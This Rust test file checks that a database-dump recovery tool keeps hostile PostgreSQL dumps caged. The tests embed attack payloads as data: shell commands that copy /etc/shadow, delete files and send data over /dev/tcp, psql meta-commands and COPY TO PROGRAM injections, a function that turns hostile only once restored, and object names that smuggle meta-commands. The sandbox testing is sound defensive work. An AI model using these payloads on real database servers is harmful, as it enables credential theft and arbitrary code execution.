//! Dumps that are hostile code: nothing leaves, nothing outside is touched, nothing passes that
//! differs from its capture.

use std::fs;
use std::net::TcpListener;

use lifeboat::check::Outcome;

use crate::bench::{Bench, SHOP, nothing_of};

/// What a hostile script does wherever it gets to run; `{canary}` is a file of the host.
const DEEDS: &str = "id > {canary}; cat /etc/shadow > /tmp/stolen; rm -rf {canary}; touch {canary}.was-here; \
                     (echo leak > /dev/tcp/127.0.0.1/{port}) 2>/dev/null; setsid sleep 900 </dev/null >/dev/null 2>&1 &";

struct Trap {
    folder: tempfile::TempDir,
    listener: TcpListener,
}

impl Trap {
    fn new() -> Self {
        let folder = tempfile::tempdir().unwrap();
        fs::write(folder.path().join("canary"), "canary-word").unwrap();
        let open = std::os::unix::fs::PermissionsExt::from_mode(0o777);
        fs::set_permissions(folder.path(), open).unwrap();
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        Self { folder, listener }
    }

    fn deeds(&self) -> String {
        let canary = self.folder.path().join("canary");
        DEEDS
            .replace("{canary}", canary.to_str().unwrap())
            .replace("{port}", &self.listener.local_addr().unwrap().port().to_string())
    }

    fn assert_untouched(&self) {
        let left: Vec<_> = fs::read_dir(self.folder.path()).unwrap().flatten().collect();
        assert_eq!(left.len(), 1, "{left:?}");
        assert_eq!(fs::read(self.folder.path().join("canary")).unwrap(), b"canary-word");
        assert!(self.listener.accept().is_err(), "somebody called home");
        assert!(!std::path::Path::new("/tmp/stolen").exists());
    }
}

#[test]
fn hostile_globals_reach_nothing_and_do_not_pass() {
    let trap = Trap::new();
    let deeds = trap.deeds();
    for hostile in [
        format!("\\! bash -c '{deeds}'\n"),
        format!("COPY (SELECT 1) TO PROGRAM $${deeds}$$;\n"),
        format!("CREATE TABLE x (a text); COPY x FROM PROGRAM $${deeds} echo 1$$;\n"),
        "\\connect host=127.0.0.1 dbname=postgres\n".to_owned(),
        format!("\\o | bash -c '{deeds}'\nSELECT 1;\n"),
        "CREATE ROLE intruder SUPERUSER;\n".to_owned(),
        "\\q\n".to_owned(),
    ] {
        let bench = Bench::capture(15, &[("shop", SHOP)]);
        let globals = bench.folder.path().join("globals.sql");
        let honest = fs::read_to_string(&globals).unwrap();
        fs::write(&globals, hostile.clone() + &honest).unwrap();

        let outcome = bench.judged();

        trap.assert_untouched();
        if hostile.contains("intruder") || hostile.contains("\\q") || hostile.contains("\\connect")
        {
            assert!(!matches!(outcome, Outcome::Held { .. }), "{hostile}: {outcome:?}");
        }
    }
}

#[test]
fn code_in_checks_indexes_and_triggers_stays_in_the_cage_and_what_it_changes_is_seen() {
    let trap = Trap::new();
    let deeds = trap.deeds();
    // Harmless while the customer fills it, hostile once it is restored: the customer's host has a
    // file that the scratch server has not.
    let script = format!(
        "CREATE TABLE victim (a int); INSERT INTO victim VALUES (1), (2);
         CREATE FUNCTION evil(int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $f$
         BEGIN
           IF current_setting('archive_mode') = 'off' AND current_setting('jit') = 'off' THEN
             BEGIN
               EXECUTE $$COPY (SELECT 1) TO PROGRAM $p${deeds}$p$ $$;
             EXCEPTION WHEN others THEN NULL; END;
             DELETE FROM victim WHERE a = 2;
           END IF;
           RETURN $1;
         END $f$;
         CREATE TABLE checked (a int CHECK (evil(a) > 0)); INSERT INTO checked VALUES (1);
         CREATE INDEX by_evil ON checked (evil(a));"
    );
    let bench = Bench::capture(15, &[("shop", &script)]);

    let outcome = bench.judged();

    trap.assert_untouched();
    assert!(!matches!(outcome, Outcome::Held { .. }), "{outcome:?}");
}

#[test]
fn names_with_newlines_and_meta_commands_come_back_as_names() {
    let names = "CREATE ROLE \"x\n\\! touch /tmp/lifeboat-was-here\n\";
                 CREATE TABLE \"t\n\\! touch /tmp/lifeboat-was-here\n--\" (\"a\n;DROP\" int);
                 INSERT INTO \"t\n\\! touch /tmp/lifeboat-was-here\n--\" VALUES (1);
                 CREATE TABLE plain (a text); INSERT INTO plain VALUES (E'\\\\.\n\\\\! id');";
    let bench = Bench::capture(15, &[("it's % a/=shop", names)]);

    let outcome = bench.judged();

    assert!(matches!(outcome, Outcome::Held { .. }), "{outcome:?}");
    assert!(!std::path::Path::new("/tmp/lifeboat-was-here").exists());
}

#[test]
fn a_server_that_is_left_alone_dies_with_the_scratch() {
    let bench = Bench::capture(15, &[("shop", SHOP)]);
    let scratch = bench.scratch();
    let recovered = bench.recover(&scratch).unwrap();
    let token = scratch.token().to_owned();
    assert!(!nothing_of(&token));

    drop(recovered);
    scratch.remove().unwrap();

    assert!(nothing_of(&token));
}
